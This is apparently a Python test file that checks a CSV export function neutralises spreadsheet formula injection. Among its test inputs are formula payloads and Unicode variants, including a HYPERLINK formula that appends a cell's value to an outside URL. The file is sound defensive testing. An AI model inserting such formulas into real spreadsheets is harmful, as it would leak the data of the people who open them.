import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ap_audit.report.sheet import Cell, cell, sheet
from tests.characters import ANY_CHARACTER


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+441632960104",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u00a0=1",
        "\u3000=1",
        '"=1"',
        "'=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        '=HYPERLINK("http://example.org/"&A1,"click")',
    ],
)
def test_nothing_is_a_formula(text: str) -> None:
    """Whatever a spreadsheet would take for one gets a ' before it."""
    assert str(cell(text)).startswith("'")


@pytest.mark.parametrize(
    "value", ["Acme, Ltd", "1 – 2", "", "ap-provider@2026.1", 7, -3, "✗ failed"]
)
def test_other_cells_stay_as_they_are(value: Cell) -> None:
    """Numbers too: a negative number is no formula."""
    assert cell(value) == value


@pytest.mark.parametrize("hidden", ["\ufeff=1", "\u200b=1", "\u202e=1", "\x00=1"])
def test_what_is_hidden_becomes_visible(hidden: str) -> None:
    """A mark that cannot be seen hides no formula behind it."""
    assert str(cell(hidden))[0] in "⟨␀"


@given(st.lists(st.lists(st.text(ANY_CHARACTER), min_size=1, max_size=4), max_size=5))
def test_rows_stay_rows(rows: list[list[str]]) -> None:
    """Whatever people write, it is read back as as many rows and cells, each on one line."""
    read = list(csv.reader(io.StringIO(sheet(rows), newline="")))
    assert [len(row) for row in read] == [len(row) for row in rows]
    assert not any("\n" in one or "\r" in one for row in read for one in row)
    for one in (one for row in read for one in row):
        assert not one.lstrip(' "`').startswith(("=", "+", "-", "@"))
